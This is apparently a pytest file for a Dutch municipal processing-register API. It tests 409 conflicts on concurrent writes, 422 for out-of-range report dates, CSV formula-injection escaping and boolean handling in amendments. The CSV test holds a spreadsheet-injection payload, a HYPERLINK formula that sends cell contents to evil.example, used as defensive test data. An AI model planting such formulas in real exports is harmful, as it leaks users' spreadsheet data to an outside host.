"""Errors are answers (issue 10, item 6), on SQLite and PostgreSQL: two steps on one record at
once give the second a 409 to try again, not a 500; a report outside the domain's years is 422;
what goes into the CSV register cannot run as a formula; and the register shows what the
domain decided, not what the request said."""

from __future__ import annotations

import csv
import io
import threading
from typing import Any

import pytest

from domain.authorization import Role
from domain.processing import CriminalDataGround
from tests.api.conftest import COLLEGE, TOWN, Served
from tests.api.test_fuzz import ACTIVITY


def test_two_steps_on_one_record_at_once_give_409_try_again(served: Served):
    employee, ciso = served.role(Role.EMPLOYEE), served.role(Role.CISO)
    incident = served.command(
        "report-incident", employee, municipality=TOWN, controller=COLLEGE, summary="USB kwijt"
    ).json()["id"]
    # Both requests read the record at the same version before either records its step.
    both_read = threading.Barrier(2, timeout=30)
    repository = served.app.repository
    get = repository.get

    def get_then_wait(*args: Any, **kwargs: Any) -> Any:
        found = get(*args, **kwargs)
        both_read.wait()
        return found

    answers: list[Any] = []

    def measure(i: int) -> None:
        answers.append(
            served.command(
                "record-measure",
                ciso,
                aggregate_id=incident,
                measure=f"maatregel {i}",
                taken_at="2026-03-02T07:30:00Z",
            )
        )

    repository.get = get_then_wait  # type: ignore[method-assign]
    try:
        threads = [threading.Thread(target=measure, args=(i,)) for i in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        repository.get = get  # type: ignore[method-assign]
    assert sorted(a.status_code for a in answers) == [201, 409], [a.text for a in answers]
    (conflict,) = [a for a in answers if a.status_code == 409]
    assert conflict.headers["content-type"] == "application/problem+json"
    assert conflict.json()["type"] == "https://bewijslast.nl/problems/conflict"
    assert "try again" in conflict.json()["detail"]
    assert conflict.headers["retry-after"] == "0"
    # Trying again succeeds.
    again = served.command(
        "record-measure",
        ciso,
        aggregate_id=incident,
        measure="opnieuw",
        taken_at="2026-03-02T07:30:00Z",
    )
    assert again.status_code == 201, again.text


@pytest.mark.parametrize(
    ("start", "end", "field"),
    [
        ("0001-01-01", "0001-12-31", "query.from"),
        ("1899-12-31", "2026-12-31", "query.from"),
        ("2026-01-01", "3000-01-01", "query.to"),
        ("2026-01-01", "9999-12-31", "query.to"),
    ],
)
def test_a_report_outside_the_domains_years_is_422(served: Served, start: str, end: str, field):
    response = served.client.get(
        f"/municipalities/{TOWN}/report",
        params={"controller": COLLEGE, "from": start, "to": end},
        headers=served.role(Role.FG),
    )
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["field"] == field


def register(served: Served, **entry: Any) -> str:
    made = served.command(
        "register-processing-activity",
        served.role(Role.PRIVACY_OFFICER),
        municipality=TOWN,
        controller=COLLEGE,
        entry={**ACTIVITY["entry"], **entry},
        valid_from=ACTIVITY["valid_from"],
    )
    assert made.status_code == 201, made.text
    return str(made.json()["id"])


def csv_rows(served: Served) -> list[dict[str, str]]:
    text = served.client.get(
        f"/municipalities/{TOWN}/register.csv", headers=served.role(Role.FG)
    ).text
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_no_cell_of_the_csv_register_is_read_as_a_formula(served: Served):
    register(
        served,
        name='=HYPERLINK("https://evil.example/?"&A1,"klik")',
        purposes=["+31 20 123 4567", "uitkering"],
        process_owner="@afdeling",
        retention="-1+1",
        legal_basis_law="\tGemeentewet",
    )
    (row,) = csv_rows(served)
    cells = [cell for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert row["Naam verwerking"] == """'=HYPERLINK("https://evil.example/?"&A1,"klik")"""
    assert row["Doeleinden"] == "'+31 20 123 4567; uitkering"


def test_an_amendment_shows_in_the_register_as_the_domain_typed_it(served: Served):
    """ "false" for criminal data: the aggregate held False, the register the string "false",
    which oversight took for true."""
    activity = register(
        served, criminal_data=True, criminal_data_ground=CriminalDataGround.AUTHORISED_BY_LAW
    )
    amended = served.command(
        "amend-processing-activity",
        served.role(Role.PRIVACY_OFFICER),
        aggregate_id=activity,
        changes={"criminal_data": "false", "criminal_data_ground": None, "bsn_used": "no"},
        valid_from="2026-04-01T00:00:00Z",
    )
    assert amended.status_code == 201, amended.text
    fg = served.role(Role.FG)
    (current,) = served.client.get(f"/municipalities/{TOWN}/register", headers=fg).json()["items"]
    assert current["entry"]["criminal_data"] is False
    assert current["entry"]["bsn_used"] is False
    (row,) = csv_rows(served)
    assert (row["Strafrechtelijke gegevens"], row["BSN"]) == ("nee", "nee")
    without_dpia = served.client.get(
        "/oversight/sensitive-processing-without-dpia", params={"municipality": TOWN}, headers=fg
    ).json()
    assert without_dpia["items"] == []
    # An unknown field is refused at the edge of the command, nothing recorded.
    size = served.ledger_size()
    unknown = served.command(
        "amend-processing-activity",
        served.role(Role.PRIVACY_OFFICER),
        aggregate_id=activity,
        changes={"strafrechtelijk": False},
        valid_from="2026-05-01T00:00:00Z",
    )
    assert unknown.status_code == 422
    assert served.ledger_size() == size
